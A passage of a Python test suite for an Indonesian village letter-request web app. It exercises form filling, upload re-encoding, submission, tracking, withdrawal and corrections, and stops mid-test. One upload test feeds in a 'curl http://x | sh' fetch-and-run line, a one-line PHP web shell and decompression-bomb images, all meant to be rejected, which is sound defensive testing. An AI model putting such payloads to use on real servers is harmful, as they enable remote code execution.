"""The resident's side of a request: choose, fill, upload, review, submit, follow, withdraw, fix."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import func, select
from sqlalchemy.exc import OperationalError
from sqlalchemy.orm import Session

from sempelmas.extensions import db
from sempelmas.models.accounts import Role, User
from sempelmas.models.requests import LetterRequest, RequestAttachment, RequestStatus
from sempelmas.services.requests import catalogue, lifecycle
from tests.conftest import csrf_from, jpeg_bytes
from tests.failing_commit import fail_commit_saving
from tests.request_factory import make_profile

FIELDS = """keperluan | Keperluan | text | ya
tanggal | Tanggal kejadian | date | tidak
jam | Jam kejadian | time | tidak
jumlah | Jumlah anak | number | tidak
agama | Agama | choice | tidak | Islam;Kristen;Katolik;Hindu;Buddha;Konghucu
nik_saksi | NIK saksi | nik | tidak
uraian | Uraian | long_text | tidak"""
REQUIREMENTS = "kk | Fotokopi KK | ya | ya\nktp | Foto KTP | ya | tidak\nlain | Dokumen lain | tidak | tidak"


def make_service(code="domisili", *, requirements=REQUIREMENTS, fields=FIELDS, needs_rt=True):
    data = {"code": code, "name": f"Surat {code}", "description": "", "who_may_request": "warga",
            "needs_rt_endorsement": needs_rt, "paper_pengantar_when_no_rt_account": True,
            "service_time_value": 1, "service_time_unit": "hari_kerja", "classification_code": "470",
            "letter_template": code, "validity_days": None, "enabled": True, "sort_order": 1}
    reqs, errors = catalogue.parse_requirement_lines(requirements)
    assert not errors
    parsed, errors = catalogue.parse_field_lines(fields)
    assert not errors
    service = catalogue.save_service(None, data, reqs, parsed)
    db.session.commit()
    return service


@pytest.fixture
def setup(app, factory):
    make_profile()
    make_service()
    factory.staff(Role.RT_HEAD, rt="001", rw="001")


@pytest.fixture
def parent(factory):
    return factory.warga(name="SITI AMINAH", female=True)


@pytest.fixture
def child(factory, parent):
    return factory.resident(name="BAYU", kk=parent.resident.kk_number)


def _count(model, *where) -> int:
    return db.session.scalar(select(func.count()).select_from(model).where(*where))


def _key(html: str) -> str:
    return re.search(r'name="kunci" value="([^"]+)"', html).group(1)


def png_bytes(size=(800, 600)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGBA", size, (10, 200, 30, 128)).save(buf, "PNG")
    return buf.getvalue()


def webp_bytes(size=(3000, 1000)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (90, 20, 200)).save(buf, "WEBP")
    return buf.getvalue()


def pdf_bytes() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (600, 800), "white").save(buf, "PDF")
    return buf.getvalue()


def bomb_bytes() -> bytes:
    buf = io.BytesIO()
    Image.new("1", (14000, 14000)).save(buf, "PNG")  # 196 megapixels in a few kilobytes
    return buf.getvalue()


GOOD = {"f_keperluan": "Melamar pekerjaan", "f_tanggal": "2026-03-01", "f_jam": "08:30", "f_jumlah": "2",
        "f_agama": "Islam", "f_nik_saksi": "", "f_uraian": "Baris satu\nbaris dua"}


def open_form(client, code="domisili"):
    resp = client.get(f"/warga/ajukan/{code}")
    assert resp.status_code == 200
    html = resp.get_data(as_text=True)
    return _key(html), html


def post_form(client, key, data=None, files=None, code="domisili", **extra):
    form = {**GOOD, "kunci": key, **(data or {}), **extra}
    for name, (content, filename) in (files or {}).items():
        form[name] = (io.BytesIO(content), filename)
    resp = client.post(f"/warga/ajukan/{code}?kunci={key}", data=form, content_type="multipart/form-data")
    # the test client spools a body over 500 KB to a temporary file it never closes
    resp.request.environ["wsgi.input"].close()
    return resp


def upload_dir(app) -> Path:
    return Path(app.config["UPLOAD_DIR"]) / "dokumen"


def stored_files(app) -> list[Path]:
    return sorted(upload_dir(app).glob("*")) if upload_dir(app).exists() else []


# ------------------------------------------------------------------ choosing and filling

def test_the_service_list_shows_enabled_services_with_their_time(setup, client, login_as, parent):
    make_service("tutup")
    catalogue.get_service("tutup").enabled = False
    db.session.commit()
    login_as(parent)
    html = client.get("/warga/layanan").get_data(as_text=True)
    assert "Surat domisili" in html and "1 hari kerja" in html and "Surat tutup" not in html
    assert "/warga/ajukan/domisili" in html


def test_the_form_is_prefilled_from_the_register_and_offers_the_family(setup, client, login_as, parent, child):
    login_as(parent)
    key, html = open_form(client)
    assert len(key) >= 32
    assert "SITI AMINAH" in html and "MOJOKERTO" in html and "17 Mei 1990" in html and "Jl. Uji No. 1" in html
    assert parent.resident.nik not in html  # masked
    assert f'value="{child.id}"' in html and "BAYU" in html
    assert 'accept="image/*,application/pdf"' in html
    assert 'name="asli_kk"' in html and 'name="asli_ktp"' not in html  # only where the original may be brought
    assert '<textarea id="f_uraian"' in html and '<select id="f_agama"' in html
    assert 'type="date" id="f_tanggal"' in html and 'type="time" id="f_jam"' in html
    assert 'inputmode="numeric" pattern="[0-9]{16}" maxlength="16"' in html
    # a fresh key each time the form is opened
    assert open_form(client)[0] != key


def test_an_unknown_or_disabled_service_is_404(setup, client, login_as, parent):
    login_as(parent)
    assert client.get("/warga/ajukan/tidakada").status_code == 404


def test_typed_fields_get_their_own_messages_and_keep_the_values(setup, client, login_as, parent, app):
    login_as(parent)
    key, _html = open_form(client)
    resp = post_form(client, key, {"f_keperluan": "", "f_tanggal": "31/02/2026", "f_jam": "25:00",
                                   "f_jumlah": "dua", "f_agama": "Lainnya", "f_nik_saksi": "123",
                                   "f_uraian": "Tetap di sini"},
                     files={"berkas_ktp": (jpeg_bytes(), "ktp.jpg")}, asli_kk="1")
    assert resp.status_code == 422
    html = resp.get_data(as_text=True)
    errors = dict(re.findall(r'<p class="error" id="err-f_(\w+)">([^<]+)</p>', html))
    assert errors["keperluan"] == "Wajib diisi."
    assert errors["tanggal"].startswith("Tanggal tidak valid")
    assert errors["jam"].startswith("Jam tidak valid")
    assert errors["jumlah"] == "Harus berupa bilangan bulat."
    assert errors["agama"].startswith("Pilih salah satu")
    assert "nik_saksi" in errors
    assert "Tetap di sini</textarea>" in html and 'value="dua"' in html
    assert 'name="asli_kk" value="1" checked' in html
    # the photo was accepted even though the answers were not, and is shown to be replaced if wanted
    assert _count(RequestAttachment) == 1 and 'id="draft-ktp"' in html and "/berkas/" in html
    assert _count(LetterRequest) == 0


def test_a_subject_outside_the_family_is_refused(setup, client, login_as, parent, factory):
    stranger = factory.resident(name="ORANG LAIN")
    login_as(parent)
    key, _html = open_form(client)
    resp = post_form(client, key, {"untuk": str(stranger.id)}, files={"berkas_ktp": (jpeg_bytes(), "k.jpg")},
                     asli_kk="1")
    assert resp.status_code == 422
    assert "anggota keluarga dalam KK yang sama" in resp.get_data(as_text=True)
    resp = post_form(client, key, {"untuk": str(stranger.id), "langkah": "kirim"}, asli_kk="1")
    assert resp.status_code == 422 and _count(LetterRequest) == 0


def test_required_documents_must_be_uploaded_or_brought(setup, client, login_as, parent):
    login_as(parent)
    key, _html = open_form(client)
    resp = post_form(client, key)
    html = resp.get_data(as_text=True)
    assert resp.status_code == 422
    assert 'id="err-berkas_kk">Unggah berkasnya, atau centang' in html
    assert 'id="err-berkas_ktp">Wajib diunggah.' in html
    assert "err-berkas_lain" not in html


# ------------------------------------------------------------------ uploads

@pytest.mark.parametrize(("content", "name"), [
    (jpeg_bytes(size=(4000, 3000), exif_gps=True), "kamera.jpg"),
    (png_bytes(), "layar.png"),
    (webp_bytes(), "galeri.webp"),
])
def test_photos_are_reencoded_without_exif_and_at_most_2000_px(setup, client, login_as, parent, app,
                                                                content, name):
    login_as(parent)
    key, _html = open_form(client)
    resp = post_form(client, key, files={"berkas_ktp": (content, name)}, asli_kk="1")
    assert resp.status_code == 200, resp.get_data(as_text=True)[:2000]
    [att] = db.session.scalars(select(RequestAttachment)).all()
    assert att.mime == "image/jpeg" and att.draft_key == key and att.request_id is None
    [path] = stored_files(app)
    with Image.open(path) as img:
        assert img.format == "JPEG" and max(img.size) <= 2000
        assert not img.getexif() and "exif" not in img.info
    assert b"KameraUji" not in path.read_bytes()


def test_a_real_pdf_is_accepted_as_is(setup, client, login_as, parent, app):
    login_as(parent)
    key, _html = open_form(client)
    pdf = pdf_bytes()
    resp = post_form(client, key, files={"berkas_ktp": (pdf, "ktp.pdf"), "berkas_kk": (pdf, "kk.pdf")})
    assert resp.status_code == 200
    assert {a.mime for a in db.session.scalars(select(RequestAttachment))} == {"application/pdf"}
    assert [p.read_bytes() for p in stored_files(app)] == [pdf, pdf]


@pytest.mark.parametrize(("content", "name", "message"), [
    (b"#!/bin/sh\ncurl http://x | sh\n", "foto.jpg", "isi berkas ini tidak dikenali"),
    (b"<?php system($_GET['c']); ?>", "ktp.jpg", "isi berkas ini tidak dikenali"),
    (jpeg_bytes()[:300], "rusak.jpg", "isi berkas ini tidak dikenali"),
    (b"%PDF-1.4\n%%EOF garbage", "palsu.pdf", "PDF rusak"),
    (bomb_bytes(), "bom.png", "Gambar terlalu besar untuk diproses: lebih dari 89 megapiksel"),
    (b"\xff\xd8\xff" + b"\0" * (11 * 1024 * 1024), "besar.jpg", "Berkas terlalu besar (maksimal 10 MB)"),
])
def test_a_bad_file_is_refused_on_its_requirement_keeping_the_form(setup, client, login_as, parent, app,
                                                                     content, name, message):
    login_as(parent)
    key, _html = open_form(client)
    resp = post_form(client, key, {"f_keperluan": "Tetap tersimpan"},
                     files={"berkas_ktp": (content, name)}, asli_kk="1")
    assert resp.status_code == 422
    html = resp.get_data(as_text=True)
    error = re.search(r'id="err-berkas_ktp">([^<]+)<', html).group(1)
    assert error.startswith(f"{name} ditolak") and message in error
    assert 'value="Tetap tersimpan"' in html and 'name="asli_kk" value="1" checked' in html
    assert _count(RequestAttachment) == 0 and stored_files(app) == []


def test_the_ninth_file_is_refused(app, client, login_as, factory):
    make_profile()
    lines = "\n".join(f"dok{i} | Dokumen {i} | tidak | tidak" for i in range(1, 10))
    make_service("banyak", requirements=lines, fields="keperluan | Keperluan | text | ya")
    factory.staff(Role.RT_HEAD, rt="001", rw="001")
    login_as(factory.warga())
    key, _html = open_form(client, "banyak")
    files = {f"berkas_dok{i}": (jpeg_bytes(size=(60, 40)), f"d{i}.jpg") for i in range(1, 10)}
    resp = post_form(client, key, {"f_keperluan": "x"}, files=files, code="banyak")
    assert resp.status_code == 422
    html = resp.get_data(as_text=True)
    assert "d9.jpg tidak disimpan: paling banyak 8 berkas per permohonan." in html
    assert _count(RequestAttachment) == 8 and len(stored_files(app)) == 8


def test_a_new_file_replaces_the_draft_for_that_requirement(setup, client, login_as, parent, app):
    login_as(parent)
    key, _html = open_form(client)
    post_form(client, key, {"f_keperluan": ""}, files={"berkas_ktp": (jpeg_bytes(), "a.jpg")})
    first = db.session.scalars(select(RequestAttachment)).one().stored_name
    post_form(client, key, {"f_keperluan": ""}, files={"berkas_ktp": (png_bytes(), "b.png")})
    db.session.expire_all()
    [att] = db.session.scalars(select(RequestAttachment)).all()
    assert att.stored_name != first and [p.name for p in stored_files(app)] == [att.stored_name]


def test_uploads_whose_commit_fails_leave_no_file_and_can_be_sent_again(setup, client, login_as, parent, app,
                                                                         monkeypatch):
    """accept_uploads stores the files, then commits their draft rows: when that commit fails, no file may
    outlive its row (the purge of abandoned drafts works from rows and would never find it)."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    login_as(parent)
    key, _html = open_form(client)
    files = {"berkas_ktp": (jpeg_bytes(), "ktp.jpg"), "berkas_kk": (pdf_bytes(), "kk.pdf")}
    fail_commit_saving(monkeypatch, RequestAttachment)
    assert post_form(client, key, files=files).status_code == 500
    assert _count(RequestAttachment) == 0 and stored_files(app) == []

    monkeypatch.undo()
    assert post_form(client, key, files=files).status_code == 200
    names = sorted(a.stored_name for a in db.session.scalars(select(RequestAttachment)))
    assert len(names) == 2 and [p.name for p in stored_files(app)] == names


def test_a_replacement_whose_commit_fails_keeps_the_earlier_draft_and_no_new_file(setup, client, login_as, parent,
                                                                                  app, monkeypatch):
    app.config["PROPAGATE_EXCEPTIONS"] = False
    login_as(parent)
    key, _html = open_form(client)
    post_form(client, key, {"f_keperluan": ""}, files={"berkas_ktp": (jpeg_bytes(), "a.jpg")})
    first = db.session.scalars(select(RequestAttachment)).one().stored_name

    real_commit = Session.commit

    def commit(self):  # the commit that would swap the draft for the new file
        if self.deleted:
            raise OperationalError("COMMIT", None, RuntimeError("database is locked"))
        return real_commit(self)

    monkeypatch.setattr(Session, "commit", commit)
    assert post_form(client, key, {"f_keperluan": ""}, files={"berkas_ktp": (png_bytes(), "b.png")}).status_code == 500
    monkeypatch.undo()
    db.session.expire_all()
    assert [a.stored_name for a in db.session.scalars(select(RequestAttachment))] == [first]
    assert [p.name for p in stored_files(app)] == [first]


def test_an_oversized_form_gets_a_clear_message_on_the_form(setup, client, login_as, parent, app):
    login_as(parent)
    key, _html = open_form(client)
    post_form(client, key, {"f_keperluan": ""}, files={"berkas_ktp": (jpeg_bytes(), "a.jpg")})
    app.config["MAX_CONTENT_LENGTH"] = 50_000
    resp = post_form(client, key, files={"berkas_kk": (b"\0" * 60_000, "kk.jpg")})
    assert resp.status_code == 413
    html = resp.get_data(as_text=True)
    assert "Kiriman terlalu besar" in html and 'id="draft-ktp"' in html and f'value="{key}"' in html


# ------------------------------------------------------------------ review and submit

def _fill_and_review(client, key, **extra):
    files = {"berkas_ktp": (jpeg_bytes(exif_gps=True), "ktp.jpg"), "berkas_kk": (pdf_bytes(), "kk.pdf")}
    resp = post_form(client, key, files=files, **extra)
    assert resp.status_code == 200, re.findall(r'class="error"[^>]*>[^<]*', resp.get_data(as_text=True))
    return resp.get_data(as_text=True)


def test_review_then_change_keeps_everything_then_submit_creates_the_request(setup, client, login_as, parent,
                                                                             child):
    login_as(parent)
    key, _html = open_form(client)
    review = _fill_and_review(client, key, untuk=str(child.id))
    assert "Periksa permohonan" in review and "Melamar pekerjaan" in review and "BAYU" in review
    assert "Kirim permohonan" in review and _count(LetterRequest) == 0
    assert '<textarea hidden name="f_uraian">Baris satu\nbaris dua</textarea>' in review
    assert f'<input type="hidden" name="untuk" value="{child.id}">' in review
    back = post_form(client, key, untuk=str(child.id), langkah="ubah")
    html = back.get_data(as_text=True)
    assert back.status_code == 200 and 'value="Melamar pekerjaan"' in html
    assert f'value="{child.id}" checked' in html and 'id="draft-ktp"' in html and 'id="draft-kk"' in html

    resp = post_form(client, key, untuk=str(child.id), langkah="kirim")
    assert resp.status_code == 303
    req = db.session.scalars(select(LetterRequest)).one()
    assert resp.location == f"/warga/permohonan/{req.tracking_number}"
    assert req.subject_resident_id == child.id and req.applicant_user_id == parent.id
    assert req.answers["keperluan"] == "Melamar pekerjaan" and req.answers["jumlah"] == 2
    assert req.answers["uraian"] == "Baris satu\nbaris dua" and req.answers["tanggal"] == "2026-03-01"
    assert req.status == RequestStatus.AWAITING_ENDORSEMENT
    assert sorted(a.requirement_code for a in req.attachments) == ["kk", "ktp"]
    assert all(a.draft_key is None for a in req.attachments)
    page = client.get(resp.location).get_data(as_text=True)
    assert "Permohonan terkirim dengan nomor" in page and req.tracking_number in page


def test_a_double_tap_or_refresh_after_submit_makes_one_request(setup, client, login_as, parent):
    login_as(parent)
    key, _html = open_form(client)
    _fill_and_review(client, key)
    first = post_form(client, key, langkah="kirim")
    second = post_form(client, key, langkah="kirim")
    assert first.status_code == second.status_code == 303 and first.location == second.location
    assert _count(LetterRequest) == 1


def test_bringing_the_original_is_noted_on_the_history(setup, client, login_as, parent):
    login_as(parent)
    key, _html = open_form(client)
    post_form(client, key, files={"berkas_ktp": (jpeg_bytes(), "k.jpg")}, asli_kk="1")
    assert post_form(client, key, langkah="kirim", asli_kk="1").status_code == 303
    req = db.session.scalars(select(LetterRequest)).one()
    assert [a.requirement_code for a in req.attachments] == ["ktp"]
    assert req.events[0].note == "Dokumen asli dibawa ke kantor: Fotokopi KK."


def test_submitting_without_a_required_file_is_refused(setup, client, login_as, parent):
    login_as(parent)
    key, _html = open_form(client)
    resp = post_form(client, key, langkah="kirim")
    assert resp.status_code == 422 and "Wajib diunggah." in resp.get_data(as_text=True)
    assert _count(LetterRequest) == 0


def test_without_an_rt_account_the_paper_pengantar_is_asked_for(app, client, login_as, factory):
    make_profile()
    make_service()
    login_as(factory.warga(rt="009"))
    key, html = open_form(client)
    assert 'name="berkas_pengantar_rt"' in html and "Surat pengantar RT/RW (kertas)" in html
    post_form(client, key, files={"berkas_ktp": (jpeg_bytes(), "k.jpg"),
                                  "berkas_pengantar_rt": (jpeg_bytes(), "p.jpg")}, asli_kk="1")
    assert post_form(client, key, langkah="kirim", asli_kk="1").status_code == 303
    req = db.session.scalars(select(LetterRequest)).one()
    assert req.needs_paper_pengantar and req.status == RequestStatus.SUBMITTED
    assert sorted(a.requirement_code for a in req.attachments) == ["ktp", "pengantar_rt"]


def test_an_unverified_resident_cannot_open_the_form(setup, client, login_as, factory):
    from sempelmas.models.accounts import AccountStatus

    login_as(factory.warga(status=AccountStatus.PENDING))
    resp = client.get("/warga/ajukan/domisili")
    assert resp.status_code == 303 and resp.location == "/warga/"


# ------------------------------------------------------------------ following a request

def _submitted(client, **extra) -> LetterRequest:
    key, _html = open_form(client)
    _fill_and_review(client, key, **extra)
    assert post_form(client, key, langkah="kirim", **extra).status_code == 303
    return db.session.scalars(select(LetterRequest).order_by(LetterRequest.id.desc())).first()


def test_the_list_shows_own_and_family_requests_only(setup, client, login_as, factory, parent, child):
    spouse = factory.warga(name="AHMAD", kk=parent.resident.kk_number)
    stranger = factory.warga(name="ORANG LAIN")
    login_as(parent)
    mine = _submitted(client, untuk=str(child.id))
    login_as(stranger)
    theirs = _submitted(client)
    # another family's request and its files: 404
    for url in (f"/warga/permohonan/{mine.tracking_number}", f"/warga/permohonan/{mine.tracking_number}/status",
                f"/warga/permohonan/{mine.tracking_number}/perbaikan"):
        assert client.get(url).status_code == 404, url
    assert client.post(f"/warga/permohonan/{mine.tracking_number}/batal").status_code == 404
    for att in mine.attachments:
        assert client.get(f"/berkas/{att.stored_name}").status_code == 404
    assert mine.tracking_number not in client.get("/warga/permohonan").get_data(as_text=True)

    login_as(spouse)
    html = client.get("/warga/permohonan").get_data(as_text=True)
    assert mine.tracking_number in html and theirs.tracking_number not in html
    assert "Menunggu pengantar RT/RW" in html and "BAYU" in html
    assert client.get(f"/warga/permohonan/{mine.tracking_number}").status_code == 200
    assert client.get(f"/warga/permohonan/{theirs.tracking_number}").status_code == 404
    for att in mine.attachments:
        resp = client.get(f"/berkas/{att.stored_name}")
        resp.close()
        assert resp.status_code == 200
    assert client.get("/warga/permohonan/JGL-2026-999999").status_code == 404


def test_the_detail_shows_the_timeline_due_time_and_polls_until_final(setup, client, login_as, parent, factory):
    login_as(parent)
    req = _submitted(client)
    html = client.get(f"/warga/permohonan/{req.tracking_number}").get_data(as_text=True)
    assert "Perkiraan selesai" in html and " WIB" in html
    assert 'hx-trigger="every 30s"' in html
    assert f'hx-get="/warga/permohonan/{req.tracking_number}/status"' in html
    assert "Siti Aminah" in html and "Menunggu pengantar RT/RW" in html
    assert '<ol class="timeline" id="timeline" reversed>' in html  # newest first: step 1 is the submission
    rt = db.session.scalars(select(User).where(User.username.is_not(None))).first()
    lifecycle.transition(req, "return_to_resident", actor=rt, note="Alamat kurang lengkap")
    db.session.commit()
    fragment = client.get(f"/warga/permohonan/{req.tracking_number}/status", headers={"HX-Request": "true"})
    body = fragment.get_data(as_text=True)
    assert fragment.status_code == 200 and "<html" not in body and 'id="request-status"' in body
    assert "Dikembalikan RT/RW" in body and "Alamat kurang lengkap" in body and "(Ketua RT 001/001)" in body
    lifecycle.transition(req, "cancel", actor=parent)
    db.session.commit()
    body = client.get(f"/warga/permohonan/{req.tracking_number}/status",
                      headers={"HX-Request": "true"}).get_data(as_text=True)
    assert "Dibatalkan oleh pemohon" in body and 'hx-trigger="every 30s"' not in body


def test_a_resident_withdraws_before_review_but_not_after(setup, client, login_as, parent, factory):
    login_as(parent)
    req = _submitted(client)
    html = client.get(f"/warga/permohonan/{req.tracking_number}").get_data(as_text=True)
    assert "data-confirm=" in html and "/batal" in html
    resp = client.post(f"/warga/permohonan/{req.tracking_number}/batal", data={"versi": req.version, "yakin": "1"})
    assert resp.status_code == 303
    db.session.expire_all()
    assert req.status == RequestStatus.CANCELLED
    assert "dibatalkan" in client.get(resp.location).get_data(as_text=True)

    other = _submitted(client)
    staff = factory.staff(Role.STAFF, "loket")
    other.status = RequestStatus.SUBMITTED
    db.session.commit()
    lifecycle.transition(other, "claim", actor=staff)
    db.session.commit()
    page = client.get(f"/warga/permohonan/{other.tracking_number}").get_data(as_text=True)
    assert "/batal" not in page
    resp = client.post(f"/warga/permohonan/{other.tracking_number}/batal", data={"yakin": "1"},
                       follow_redirects=True)
    assert "tidak dapat dibatalkan" in resp.get_data(as_text=True)
    db.session.expire_all()
    assert other.status == RequestStatus.IN_REVIEW


def _needs_fix(client, factory) -> LetterRequest:
    req = _submitted(client)
    req.status = RequestStatus.SUBMITTED
    db.session.commit()
    staff = factory.staff(Role.STAFF, "loket")
    lifecycle.transition(req, "claim", actor=staff)
    lifecycle.transition(req, "ask_fix", actor=staff, note="Foto KTP buram, keperluan kurang jelas",
                         fields=["keperluan"], files=["ktp"])
    db.session.commit()
    return req


def test_after_a_fix_request_only_the_named_fields_and_files_change(setup, client, login_as, parent, factory,
                                                                    app):
    login_as(parent)
    req = _needs_fix(client, factory)
    detail = client.get(f"/warga/permohonan/{req.tracking_number}").get_data(as_text=True)
    assert "Foto KTP buram" in detail and "Keperluan" in detail and "Foto KTP" in detail
    resp = client.get(f"/warga/permohonan/{req.tracking_number}/perbaikan")
    html = resp.get_data(as_text=True)
    assert 'name="f_keperluan"' in html and 'name="berkas_ktp"' in html
    assert 'name="f_jumlah"' not in html and 'name="berkas_kk"' not in html
    key = _key(html)
    old_ktp = next(a for a in req.attachments if a.requirement_code == "ktp")

    # without the new photo: refused, the typed value kept
    resp = client.post(f"/warga/permohonan/{req.tracking_number}/perbaikan",
                       data={"kunci": key, "versi": req.version, "f_keperluan": "Melamar kerja di pabrik"})
    assert resp.status_code == 422 and "Unggah berkas pengganti." in resp.get_data(as_text=True)
    assert 'value="Melamar kerja di pabrik"' in resp.get_data(as_text=True)

    resp = client.post(f"/warga/permohonan/{req.tracking_number}/perbaikan",
                       data={"kunci": key, "versi": req.version, "f_keperluan": "Melamar kerja di pabrik",
                             "f_jumlah": "9", "berkas_ktp": (io.BytesIO(jpeg_bytes()), "baru.jpg")},
                       content_type="multipart/form-data")
    assert resp.status_code == 303, resp.get_data(as_text=True)[:2000]
    db.session.expire_all()
    assert req.status == RequestStatus.IN_REVIEW and req.fix_request is None
    assert req.answers["keperluan"] == "Melamar kerja di pabrik" and req.answers["jumlah"] == 2  # not named
    assert old_ktp.superseded_at is not None and Path(upload_dir(app) / old_ktp.stored_name).exists()
    current = [a for a in req.attachments if a.superseded_at is None]
    assert sorted(a.requirement_code for a in current) == ["kk", "ktp"]
    assert req.events[-1].note == "Isian diubah: Keperluan. Berkas diganti: Foto KTP."
    # and the fix screen is closed now
    assert client.get(f"/warga/permohonan/{req.tracking_number}/perbaikan").status_code == 303


def test_a_request_returned_by_the_rt_can_be_corrected_and_resent(setup, client, login_as, parent):
    login_as(parent)
    req = _submitted(client)
    rt = db.session.scalars(select(User).where(User.username.is_not(None))).first()
    lifecycle.transition(req, "return_to_resident", actor=rt, note="Tanggal salah")
    db.session.commit()
    html = client.get(f"/warga/permohonan/{req.tracking_number}/perbaikan").get_data(as_text=True)
    assert "Tanggal salah" in html and 'name="f_tanggal"' in html and 'name="f_jumlah"' in html
    resp = client.post(f"/warga/permohonan/{req.tracking_number}/perbaikan",
                       data={"kunci": _key(html), "versi": req.version, **GOOD, "f_tanggal": "2026-02-28"})
    assert resp.status_code == 303
    db.session.expire_all()
    assert req.status == RequestStatus.AWAITING_ENDORSEMENT and req.answers["tanggal"] == "2026-02-28"
    assert req.events[-1].note == "Isian diubah: Tanggal kejadian."


def test_a_pendamping_submits_and_follows_for_the_resident_they_assist(setup, client, login_as, factory):
    pendamping = factory.staff(Role.ASSISTANT, "pdp")
    resident = factory.warga(name="MBAH SUMI")
    resident.assisted_by_id = pendamping.id
    db.session.commit()
    login_as(pendamping)
    assert client.get("/warga/ajukan/domisili").status_code == 403  # not acting for anyone yet
    client.post(f"/warga/pendamping/{resident.id}/bertindak")
    key, html = open_form(client)
    assert "MBAH SUMI" in html and "mengisi untuk" in html
    _fill_and_review(client, key)
    assert post_form(client, key, langkah="kirim").status_code == 303
    req = db.session.scalars(select(LetterRequest)).one()
    assert req.applicant_user_id == resident.id and req.submitted_by_id == pendamping.id
    assert all(a.owner_user_id == resident.id and a.uploaded_by_id == pendamping.id for a in req.attachments)
    page = client.get(f"/warga/permohonan/{req.tracking_number}").get_data(as_text=True)
    assert "atas nama Mbah Sumi" in page
    resp = client.post(f"/warga/permohonan/{req.tracking_number}/batal", data={"yakin": "1"})
    assert resp.status_code == 303
    db.session.expire_all()
    assert req.status == RequestStatus.CANCELLED and req.events[-1].on_behalf_of_id == resident.id


def test_the_detail_shows_endorsements_and_the_rejection_reason(setup, client, login_as, parent, factory):
    from datetime import datetime

    from sempelmas.models.requests import Endorsement

    login_as(parent)
    req = _submitted(client)
    rt = db.session.scalars(select(User).where(User.username.is_not(None))).first()
    db.session.add(Endorsement(request=req, level="rt", rt="001", rw="001", year=2026, seq=7,
                               number="007/RT.001/RW.001/XI/2026", endorser_id=rt.id, at=datetime(2026, 11, 27, 3)))
    req.status = RequestStatus.SUBMITTED
    db.session.commit()
    staff = factory.staff(Role.STAFF, "loket")
    lifecycle.transition(req, "claim", actor=staff)
    lifecycle.transition(req, "reject", actor=staff, note="Bukan warga kelurahan ini")
    db.session.commit()
    html = client.get(f"/warga/permohonan/{req.tracking_number}").get_data(as_text=True)
    assert "007/RT.001/RW.001/XI/2026" in html and "RT 001 / RW 001" in html and "27 November 2026 10.00 WIB" in html
    assert "Alasan penolakan" in html and "Bukan warga kelurahan ini" in html
    assert "Pengguna loket (Petugas pelayanan)" in html
    assert 'hx-trigger="every 30s"' not in html and "/batal" not in html and "Perkiraan selesai" not in html


def test_the_request_form_needs_its_csrf_token(make_app, factory):
    app = make_app(WTF_CSRF_ENABLED=True)
    with app.app_context():
        make_profile()
        make_service()
        factory.staff(Role.RT_HEAD, rt="001", rw="001")
        user = factory.warga()
        client = app.test_client()
        login_page = client.get("/login").get_data(as_text=True)
        client.post("/login", data={"identifier": user.resident.nik, "password": "rahasia-123",
                                    "csrf_token": csrf_from(login_page)})
        key, html = open_form(client)
        assert post_form(client, key, files={"berkas_ktp": (jpeg_bytes(), "k.jpg")}).status_code == 400
        assert _count(RequestAttachment) == 0
        resp = post_form(client, key, {"csrf_token": csrf_from(html)}, files={"berkas_ktp": (jpeg_bytes(), "k.jpg")},
                         asli_kk="1")
        assert resp.status_code == 200 and "Kirim permohonan" in resp.get_data(as_text=True)
        review = resp.get_data(as_text=True)
        resp = post_form(client, key, {"csrf_token": csrf_from(review)}, langkah="kirim", asli_kk="1")
        assert resp.status_code == 303 and _count(LetterRequest) == 1


# ------------------------------------------------------------------ files made to hurt

def _many_documents_service(n: int = 6):
    make_profile()
    lines = "\n".join(f"dok{i} | Dokumen {i} | tidak | tidak" for i in range(1, n + 1))
    make_service("banyak", requirements=lines, fields="keperluan | Keperluan | text | ya")


def _error_of(html: str, code: str) -> str:
    return re.search(rf'id="err-berkas_{code}">([^<]+)<', html).group(1)


def test_five_huge_pngs_in_one_form_are_refused_undecoded_and_the_rest_is_kept(app, client, login_as, factory):
    """Five 343 KB PNGs that each decode to 353 MB: each refused by name with the reason, the photo sent
    alongside stored, what was typed kept."""
    from tests.hostile_files import png_bomb

    _many_documents_service()
    factory.staff(Role.RT_HEAD, rt="001", rw="001")
    login_as(factory.warga())
    key, _html = open_form(client, "banyak")
    files = {f"berkas_dok{i}": (png_bomb(), f"besar{i}.png") for i in range(1, 6)}
    files["berkas_dok6"] = (jpeg_bytes(), "ktp.jpg")
    resp = post_form(client, key, {"f_keperluan": "Tetap tersimpan"}, files=files, code="banyak")
    assert resp.status_code == 422
    html = resp.get_data(as_text=True)
    for i in range(1, 6):
        error = _error_of(html, f"dok{i}")
        assert error.startswith(f"besar{i}.png ditolak: Gambar terlalu besar untuk diproses: 9400 × 9400 piksel.")
    assert 'value="Tetap tersimpan"' in html and 'id="draft-dok6"' in html
    [kept] = db.session.scalars(select(RequestAttachment)).all()
    assert kept.requirement_code == "dok6" and stored_files(app) == [upload_dir(app) / kept.stored_name]


def test_an_oversized_progressive_jpeg_is_refused_with_its_size(setup, client, login_as, parent, app):
    from tests.hostile_files import progressive_jpeg

    login_as(parent)
    key, _html = open_form(client)
    resp = post_form(client, key, {"f_keperluan": "Tetap tersimpan"},
                     files={"berkas_ktp": (progressive_jpeg(9400, "L"), "kamera.jpg")})
    html = resp.get_data(as_text=True)
    assert resp.status_code == 422
    assert _error_of(html, "ktp").startswith("kamera.jpg ditolak: Gambar terlalu besar untuk diproses: 9400 × 9400")
    assert 'value="Tetap tersimpan"' in html and stored_files(app) == []


def test_photos_past_the_requests_budget_wait_for_the_next_sending(app, client, login_as, factory):
    """The budget of one request runs out: the photo over it is refused (nothing decoded), the ones before
    it are kept, and sending it again with the form is accepted."""
    app.config["IMAGE_REQUEST_MAX_DECODE_MB"] = 60
    _many_documents_service(3)
    factory.staff(Role.RT_HEAD, rt="001", rw="001")
    login_as(factory.warga())
    key, _html = open_form(client, "banyak")
    buf = io.BytesIO()
    Image.new("RGB", (2000, 1500), (10, 120, 200)).save(buf, "PNG")  # ~23 MB of decoding each
    scan = buf.getvalue()
    files = {f"berkas_dok{i}": (scan, f"scan{i}.png") for i in range(1, 4)}
    html = post_form(client, key, {"f_keperluan": "x"}, files=files, code="banyak").get_data(as_text=True)
